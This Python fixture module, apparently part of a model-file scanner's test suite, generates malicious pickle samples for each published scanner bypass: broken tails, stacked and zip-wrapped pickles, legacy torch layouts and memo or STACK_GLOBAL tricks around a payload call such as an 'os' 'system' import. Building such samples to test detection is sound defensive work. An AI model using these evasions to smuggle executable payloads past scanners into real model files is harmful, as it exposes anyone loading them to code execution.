"""Evasions in the stream itself: breaks, stacks of pickles, memo tricks.

One entry per technique of the catalogue of published bypasses (picklescan, fickling and modelscan advisories, nullifAI,
"exception-oriented programming", arXiv 2508.19774). The call stands before what is meant to stop a reader.
"""

from __future__ import annotations

import struct
from collections.abc import Callable

from fixtures.archives import Entry, zip_archive
from fixtures.assemble import (
    P0,
    P2,
    P4,
    STOP,
    Ops,
    Spelling,
    discard,
    frame,
    long_old_text,
    long_text,
    mutable,
    old_text,
    proto,
    quoted,
    short_text,
    stack_global,
    text,
    text_line,
)

from .payloads import Payload, Sample, Technique, cross

# Bytes behind the call that make the loader, or the reader of a scanner, give up.
BREAKS: dict[str, bytes] = {
    "unknown-opcode": b"\xff",
    "no-stop": b"",
    "truncated-operand": b"X\xff\x00\x00\x00abc",
    "truncated-length": b"X\xff\x00",
    "truncated-line": b"cos",
    "missing-memo": b"h\x63.",
    "missing-memo-text": b"g99\n.",
    "stack-underflow": b"0000R.",
    "missing-mark": b"t.",
    "odd-setitems": b"}(K\x01u.",
    "odd-dict": b"(K\x01d.",
    "bad-utf8": b"X\x01\x00\x00\x00\xff.",
    "bad-int": b"Inumber\n.",
    "bad-float": b"Fnumber\n.",
    "bad-long": b"LnumberL\n.",
    "bad-string": b"Sno quotes\n.",
    "bad-unicode": b"V\\u00\n.",
    "negative-long": b"\x8b\xff\xff\xff\xff.",
    "negative-string": b"T\xff\xff\xff\xffaa.",
    "protocol-6": b"\x80\x06.",
    "protocol-255": b"\x80\xff.",
    "extension-0": b"\x82\x00.",
    "frame-too-long": b"\x95" + struct.pack("<Q", 1 << 40) + b".",
    "append-to-none": b"NNa.",
    "build-none": b"NNb.",
    "reduce-none": b"NNR.",
    "newobj-none": b"NN\x81.",
    "newobj-ex-keywords": b"cbuiltins\nint\n)N\x92.",
    "additems-to-list": b"](K\x01\x90.",
    "next-buffer": b"\x97.",
    "persistent-id": b"Pnone\n.",
    "stop-empty": b"0.",
    "put-negative": b"p-1\n.",
    "put-word": b"pnumber\n.",
    "memoize-empty": b"0\x94.",
    "global-integers": b"K\x01K\x02\x93.",
    "global-bytes": b"C\x02osC\x06system\x93.",
    "global-bytearray": mutable(b"os") + mutable(b"system") + b"\x93.",
    "global-list": b"]]\x93.",
    "global-dict": b"}}\x93.",
    "global-none": b"NN\x93.",
    "global-tuple": b"))\x93.",
    "unhashable-key": b"}]K\x01s.",
    "unhashable-member": b"\x8f(]\x90.",
    "mark-left": b"(N.",
    "binint-truncated": b"J\x01",
    "zeros": bytes(64),
    "text": b"\nthis is not a pickle\n",
}


def _broken(tail: bytes) -> Technique:
    return lambda payload, write: (proto(write.protocol) if write.protocol > 1 else b"") + payload.call(write) + tail


def _plain(write: Spelling) -> bytes:
    return write.stream({"weights": [1, 2, 3]})


def _stacked(before: int, after: int = 0, between: bytes = b"") -> Technique:
    def make(payload: Payload, write: Spelling) -> bytes:
        plain = _plain(write) + between
        return plain * before + write.stream(payload.call(write)) + plain * after

    return make


def _legacy(position: int) -> Technique:
    """Put the call into one of the five pickles of a torch file of before 1.6."""

    def make(payload: Payload, write: Spelling) -> bytes:
        values: list[object] = [0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}, {"a": 1}, []]
        streams = [P2.stream(value) for value in values]
        streams[position] = P2.stream(Ops(discard(payload.call(P2), P2.value(values[position]))))
        return b"".join(streams)

    return make


STACKED: dict[str, Technique] = {
    "second": _stacked(1),
    "last-of-six": _stacked(5),
    "first": _stacked(0, 1),
    "behind-newline": _stacked(1, between=b"\n"),
    "behind-garbage": _stacked(1, between=b"\xde\xad\xbe\xef garbage "),
    "behind-zeros": _stacked(1, between=bytes(512)),
    "behind-broken-pickle": lambda payload, write: (
        b"\x80\x04X\xff\xff." + _plain(P2) + write.stream(payload.call(write))
    ),
    "zip-behind-pickle": lambda payload, write: (
        _plain(write) + zip_archive(Entry(name="archive/data.pkl", data=write.stream(payload.call(write))))
    ),
    "pickle-before-zip": lambda payload, write: (
        write.stream(payload.call(write)) + zip_archive(Entry(name="archive/data.pkl", data=_plain(write)))
    ),
    "memo-of-the-stream-before": lambda payload, write: (
        P4.stream(Ops(short_text("collections") + b"\x94" + short_text("OrderedDict") + b"\x94\x93)R"))
        + P4.stream(
            Ops(
                short_text(payload.module)
                + b"\x940"
                + short_text(payload.name)
                + b"\x940h\x00h\x01\x93"
                + P4.tuple_of(*payload.arguments)
                + b"R"
            )
        )
    ),
    **{f"torch-legacy-{position + 1}": _legacy(position) for position in range(5)},
    "torch-legacy-behind": lambda payload, write: _legacy_plain() + write.stream(payload.call(write)),
}


def _legacy_plain() -> bytes:
    values: list[object] = [0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}, {"a": 1}, []]
    return b"".join(P2.stream(value) for value in values)


def _with_names(spell: Callable[[str], Ops]) -> Technique:
    """Import by STACK_GLOBAL on two strings that `spell` writes."""

    def make(payload: Payload, write: Spelling) -> bytes:
        name = Ops(spell(payload.module) + spell(payload.name) + b"\x93")
        return proto(4) + P4.call(name, *payload.arguments) + STOP

    return make


def _shared(code: Callable[[str, str], bytes]) -> Technique:
    """Import by the operands that `code(module, name)` leaves."""

    def make(payload: Payload, write: Spelling) -> bytes:
        return P4.stream(P4.call(Ops(code(payload.module, payload.name)), *payload.arguments))

    return make


MEMO: dict[str, Technique] = {
    "string-operands": _with_names(quoted),
    "short-binstring-operands": _with_names(old_text),
    "binstring-operands": _with_names(long_old_text),
    "unicode-operands": _with_names(text_line),
    "binunicode-operands": _with_names(text),
    "binunicode8-operands": _with_names(long_text),
    "position-0": lambda payload, write: (
        stack_global(short_text(payload.module), short_text(payload.name)) + P4.tuple_of(*payload.arguments) + b"R."
    ),
    "position-0-strings": lambda payload, write: (
        stack_global(quoted(payload.module), quoted(payload.name)) + P0.tuple_of(*payload.arguments) + b"R."
    ),
    "from-memo": _shared(lambda m, n: short_text(m) + b"\x940" + short_text(n) + b"\x940h\x00h\x01\x93"),
    "indices-out-of-order": _shared(lambda m, n: short_text(m) + b"q\x070" + short_text(n) + b"q\x030h\x07h\x03\x93"),
    "index-text": _shared(lambda m, n: short_text(m) + b"p900\n0" + short_text(n) + b"p17\n0g900\ng17\n\x93"),
    "index-long": _shared(
        lambda m, n: short_text(m) + b"r\x00\x10\x00\x000" + short_text(n) + b"q\x000j\x00\x10\x00\x00h\x00\x93"
    ),
    "put-over-string": _shared(
        lambda m, n: (
            short_text("collections")
            + b"q\x000"
            + short_text("OrderedDict")
            + b"q\x010"
            + short_text(m)
            + b"q\x000"
            + short_text(n)
            + b"q\x010h\x00h\x01\x93"
        )
    ),
    "put-over-import": lambda payload, write: write.stream(
        Ops(
            write.name("collections", "OrderedDict")
            + b"q\x000"
            + payload.imported(write)
            + b"q\x000h\x00"
            + write.tuple_of(*payload.arguments)
            + b"R"
        )
    ),
    "put-text-over-import": lambda payload, write: write.stream(
        Ops(
            write.name("collections", "OrderedDict")
            + b"p0\n0"
            + payload.imported(write)
            + b"p0\n0g0\n"
            + write.tuple_of(*payload.arguments)
            + b"R"
        )
    ),
    "memoize-behind-put": _shared(
        lambda m, n: short_text("x") + b"q\x050" + short_text(m) + b"\x940" + short_text(n) + b"\x940h\x01h\x02\x93"
    ),
    "memoize-behind-pop": _shared(lambda m, n: short_text(m) + b"N0\x940" + short_text(n) + b"N0\x940h\x00h\x01\x93"),
    "put-behind-pop": _shared(lambda m, n: short_text(m) + b"N0q\x000" + short_text(n) + b"N0q\x010h\x00h\x01\x93"),
    "decoys-popped": _shared(
        lambda m, n: short_text(m) + short_text("a") + b"0" + short_text(n) + short_text("OrderedDict") + b"0\x93"
    ),
    "decoys-popped-to-mark": _shared(
        lambda m, n: short_text(m) + short_text(n) + b"(" + short_text("collections") + short_text("Counter") + b"1\x93"
    ),
    "decoys-memoized": _shared(
        lambda m, n: (
            short_text(m)
            + b"\x94"
            + short_text("collections")
            + b"\x940"
            + short_text(n)
            + short_text("x")
            + b"\x940\x93"
        )
    ),
    "dup-operands": lambda payload, write: P4.stream(P4.call(Ops(short_text("timeit") + b"2\x93"), "pass")),
    "dup-import": lambda payload, write: write.stream(
        Ops(payload.imported(write) + b"20" + write.tuple_of(*payload.arguments) + b"R")
    ),
    "mark-between": _shared(lambda m, n: short_text(m) + b"(1" + short_text(n) + b"\x93"),
    "proto-between": _shared(lambda m, n: short_text(m) + b"\x80\x02" + short_text(n) + b"\x80\x04\x93"),
    "frame-between": lambda payload, write: (
        proto(4)
        + frame(short_text(payload.module))
        + frame(short_text(payload.name))
        + frame(
            Ops(b"\x93" + P4.tuple_of(*payload.arguments) + b"R."),
        )
    ),
}


def samples() -> list[Sample]:
    """Return every stream-level sample."""
    broken = {name: _broken(tail) for name, tail in BREAKS.items()}
    groups = {
        "broken": broken,
        "stacked": STACKED,
        "memo": MEMO,
    }
    return [sample for family, techniques in groups.items() for sample in cross(family, techniques)]
